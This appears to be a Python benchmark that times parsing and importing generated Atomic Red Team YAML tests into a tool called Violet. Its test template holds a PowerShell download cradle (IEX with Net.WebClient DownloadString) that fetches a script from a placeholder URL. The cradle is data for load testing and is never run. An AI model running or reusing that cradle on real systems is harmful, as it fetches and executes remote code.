"""Benchmark: importing Atomic Red Team tests, beside parsing them alone and a YAML floor.

    .venv/bin/python bench/library_import.py [--atomics 300] [--one-line] [--repeat 3]
        [--baseline REF] [--bundle PATH]

One generated technique file (T1059.001, like the real `atomics/T1059.001/T1059.001.yaml`) holds
`--atomics` tests, each with two input arguments, a dependency, a command and a cleanup (about
1 KB of YAML); with `--one-line`, each test is one line in flow style instead (name, GUID, a
platform and a command: about 150 bytes, the smallest a test is, so what a test costs beyond
its bytes). Phases:

- yaml floor: `yaml.load` of the document with libyaml (nothing can import faster);
- parse: `load_document()`, i.e. YAML, the Atomic shape, and every draft through the create
  schema (what the route does before it touches the database);
- first import: parse, then `import_templates()` into an empty library, committed;
- re-import: the same document again (matched by GUID, every test skipped, nothing written).

Each phase runs as the import route runs it (the cycle collector paused), once per round,
`--repeat` rounds; the fastest run is reported: its wall time, this process's CPU time (the rest
of the wall time is PostgreSQL's, and waiting), and its multiple of the yaml floor measured in
the same process (the same code in every version of Violet: the ratio that means most on a
shared machine). A phase that fails is reported with its error.

In-process against database `violet_bench_library` (embedded unless BENCH_DATABASE_URL is set),
migrated, with the real ATT&CK catalogue synced first (untimed). With `--baseline REF`, the same
phases also run on Violet as it was at git commit REF (exported with `git archive`, run by this
script in a child process, on database `violet_bench_library_baseline`), for a before/after in
one run: the rounds alternate between the two, the order swapped every round.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
DEFAULT_BUNDLE = REPO_ROOT.parent / "shared" / "data" / "enterprise-attack-v18.1.json.gz"
DATABASE = "violet_bench_library"

ATOMIC_TEST = """\
- name: PowerShell download cradle {index}
  auto_generated_guid: {guid}
  description: |
    Downloads a script and runs it in memory (variant {index}). Upon execution, the script's
    output is displayed.
  supported_platforms:
  - windows
  input_arguments:
    url:
      description: Where the script is downloaded from
      type: url
      default: https://example.test/payload-{index}.ps1
    timeout_seconds:
      description: How long to wait
      type: integer
      default: {index}
  dependency_executor_name: powershell
  dependencies:
  - description: |
      The payload directory must exist
    prereq_command: |
      if (Test-Path $env:TEMP\\payloads) {{exit 0}} else {{exit 1}}
    get_prereq_command: |
      New-Item -Type Directory $env:TEMP\\payloads -Force | Out-Null
  executor:
    command: |
      IEX (New-Object Net.WebClient).DownloadString('#{{url}}')
      Start-Sleep #{{timeout_seconds}}
    cleanup_command: |
      Remove-Item $env:TEMP\\payloads -Recurse -ErrorAction Ignore
    name: powershell
    elevation_required: {elevated}
"""


def atomic_document(count: int) -> str:
    head = "attack_technique: T1059.001\ndisplay_name: 'Command and Scripting Interpreter'\n"
    tests = "".join(
        ATOMIC_TEST.format(
            index=index,
            guid=uuid.uuid5(uuid.NAMESPACE_URL, f"violet-bench/{index}"),
            elevated=str(index % 2 == 0).lower(),
        )
        for index in range(count)
    )
    return head + "atomic_tests:\n" + tests


def one_line_document(count: int) -> str:
    tests = "".join(
        f"- {{name: Short test {index}, "
        f"auto_generated_guid: {uuid.uuid5(uuid.NAMESPACE_URL, f'violet-bench/{index}')}, "
        f"supported_platforms: [linux], executor: {{name: sh, command: echo {index}}}}}\n"
        for index in range(count)
    )
    return "attack_technique: T1059.001\natomic_tests:\n" + tests


def prepare(bundle: Path, database: str):
    """A migrated database with the default workspace and the real catalogue; the app."""
    from flask_migrate import upgrade
    from sqlalchemy.engine import make_url

    from violet import create_app
    from violet.extensions import db
    from violet.mitre.sync.service import SyncSettings, file_source, sync_catalogue
    from violet.workspaces.service import ensure_default_workspace

    url = os.environ.get("BENCH_DATABASE_URL")
    if url:
        url = make_url(url).set(database=database).render_as_string(hide_password=False)
    else:
        from violet.config import data_dir
        from violet.core import embedded_db

        url = embedded_db.database_url(data_dir() / "postgres", database, recreate=True)
    app = create_app({"SQLALCHEMY_DATABASE_URI": url, "LOG_LEVEL": "WARNING"})
    with app.app_context():
        upgrade()
        workspace = ensure_default_workspace()
        settings = SyncSettings.from_config(app.config)
        sync_catalogue(
            file_source(bundle, settings.policy.max_bytes),
            expected_sha256=None,
            allow_unverified=True,
            started_by=None,
            settings=settings,
        )
        db.session.commit()
        return app, workspace.id


PHASES = ("yaml floor", "parse", "first import", "re-import")


def timed(function) -> tuple[float, float, object]:
    """Wall and CPU seconds of `function()`, and what it returned."""
    wall, cpu = time.perf_counter(), time.process_time()
    result = function()
    return time.perf_counter() - wall, time.process_time() - cpu, result


def rounds(document: str, bundle: Path, database: str):
    """A function that runs every phase once: {phase: {"wall", "cpu"} or {"error"}} and the
    imports' reports."""
    import yaml
    from sqlalchemy import delete

    from violet.core.tenancy import acting_in
    from violet.extensions import db
    from violet.library.formats.loader import load_document
    from violet.library.models import TestTemplate
    from violet.library.service.transfer import import_templates

    try:
        from violet.core.gc_pause import cycle_collection_paused
    except ImportError:  # a baseline from before the route paused the collector
        cycle_collection_paused = contextlib.nullcontext

    app, workspace_id = prepare(bundle, database)

    def parse():
        with cycle_collection_paused():  # as the route does
            return load_document("atomic-red-team", document)

    def import_once():
        with cycle_collection_paused():
            report = import_templates(workspace_id, load_document("atomic-red-team", document))
            db.session.commit()
        return report

    functions = {
        "yaml floor": lambda: yaml.load(document, yaml.CSafeLoader),
        "parse": parse,
        "first import": import_once,
        "re-import": import_once,
    }

    def one_round() -> dict:
        phases, reports = {}, {}
        with app.app_context(), acting_in(workspace_id):
            db.session.execute(delete(TestTemplate))
            db.session.commit()
            for phase, function in functions.items():
                try:
                    wall, cpu, result = timed(function)
                except Exception as error:
                    db.session.rollback()
                    cause = getattr(error, "orig", None) or error
                    first_line = (str(cause).splitlines() or [""])[0]
                    phases[phase] = {"error": f"{type(cause).__name__}: {first_line[:60]}"}
                    continue
                phases[phase] = {"wall": wall, "cpu": cpu}
                if phase.endswith("import"):
                    reports[phase] = (
                        f"created {result.created}, updated {result.updated}, "
                        f"skipped {result.skipped}, errors {len(result.errors)}"
                    )
            db.session.expunge_all()
        return {"phases": phases, "reports": reports}

    return one_round


def best(results: list[dict]) -> dict:
    """Each phase's fastest run (by wall time), or its error."""
    phases = {}
    for phase in PHASES:
        runs = [result["phases"][phase] for result in results]
        timed_runs = [run for run in runs if "error" not in run]
        phases[phase] = min(timed_runs, key=lambda run: run["wall"]) if timed_runs else runs[0]
    return {"phases": phases, "reports": results[-1]["reports"]}


def export_checkout(ref: str, directory: Path) -> Path:
    """The files of git `ref` in `directory` (git archive: the repository is left alone)."""
    directory.mkdir()
    archive = subprocess.run(
        ["git", "archive", "--format=tar", ref], cwd=REPO_ROOT, check=True, capture_output=True
    ).stdout
    subprocess.run(["tar", "-x", "-C", str(directory)], input=archive, check=True)
    return directory


def start_baseline(checkout: Path, arguments: argparse.Namespace) -> subprocess.Popen:
    """This script on Violet at the exported commit, in a child process that runs a round of
    the phases for each line it reads and answers each with a line of JSON."""
    from violet.config import data_dir

    environment = {
        **os.environ,
        "PYTHONPATH": str(checkout / "backend"),
        "VIOLET_DATA_DIR": str(data_dir()),  # the same embedded PostgreSQL
    }
    command = [sys.executable, __file__, "--serve-rounds", "--atomics", str(arguments.atomics)]
    command += ["--bundle", str(arguments.bundle)]
    command += ["--one-line"] if arguments.one_line else []
    return subprocess.Popen(
        command, env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )


def baseline_round(child: subprocess.Popen) -> dict:
    assert child.stdin is not None and child.stdout is not None
    child.stdin.write("round\n")
    child.stdin.flush()
    line = child.stdout.readline()
    if not line:
        sys.exit(f"the baseline exited ({child.wait()}); its errors are above")
    return json.loads(line)


def print_table(title: str, results: dict, atomics: int) -> None:
    print(title)
    phases = results["phases"]
    floor = phases["yaml floor"].get("wall")
    header = f"{'phase':<14} {'wall ms':>9} {'cpu ms':>9} {'× floor':>8} {'wall per atomic ms':>19}"
    print(header)
    print("-" * len(header))
    for phase in PHASES:
        result = phases[phase]
        if "error" in result:
            print(f"{phase:<14} failed: {result['error']}")
            continue
        wall, cpu = result["wall"], result["cpu"]
        per_atomic = wall * 1000 / atomics
        print(
            f"{phase:<14} {wall * 1000:>9.1f} {cpu * 1000:>9.1f} {wall / floor:>8.2f} "
            f"{per_atomic:>19.3f}"
        )
    for phase, report in results["reports"].items():
        print(f"  {phase}: {report}")
    print()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--atomics", type=int, default=300)
    parser.add_argument("--one-line", action="store_true", help="one-line tests in flow style")
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--baseline", metavar="REF", help="also measure Violet at this git ref")
    parser.add_argument("--bundle", type=Path, default=DEFAULT_BUNDLE)
    parser.add_argument("--serve-rounds", action="store_true", help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    if not arguments.bundle.exists():
        print(f"SKIPPED: the ATT&CK bundle is absent ({arguments.bundle}).")
        return 0

    make = one_line_document if arguments.one_line else atomic_document
    document = make(arguments.atomics)
    if arguments.serve_rounds:  # the baseline's child process
        one_round = rounds(document, arguments.bundle, f"{DATABASE}_baseline")
        for _ in sys.stdin:
            print(json.dumps(one_round()), flush=True)
        return 0

    with tempfile.TemporaryDirectory(prefix="violet-bench-") as workdir:
        child = None
        if arguments.baseline:
            checkout = export_checkout(arguments.baseline, Path(workdir) / "baseline")
            child = start_baseline(checkout, arguments)
        one_round = rounds(document, arguments.bundle, DATABASE)
        now, before = [], []
        for number in range(arguments.repeat):
            # Interleaved, the order swapped every round: neither always runs on a warmer machine.
            if child and number % 2 == 0:
                before.append(baseline_round(child))
            now.append(one_round())
            if child and number % 2 == 1:
                before.append(baseline_round(child))
        if child:
            assert child.stdin is not None
            child.stdin.close()
            child.wait()

    size_kb = len(document.encode()) / 1024
    shape = "one-line " if arguments.one_line else ""
    print(f"{arguments.atomics} {shape}atomics ({size_kb:.0f} KB YAML), best of {arguments.repeat}")
    print()
    results = best(now)
    if before:
        baseline = best(before)
        print_table(f"Violet at {arguments.baseline} (baseline)", baseline, arguments.atomics)
    print_table("Violet now", results, arguments.atomics)
    if before:
        print("baseline ÷ now (wall, cpu):")
        for phase in PHASES:
            old, new = baseline["phases"][phase], results["phases"][phase]
            if "error" in old or "error" in new:
                continue
            print(
                f"  {phase:<14} {old['wall'] / new['wall']:>6.2f} {old['cpu'] / new['cpu']:>6.2f}"
            )
    return 0


if __name__ == "__main__":
    sys.exit(main())
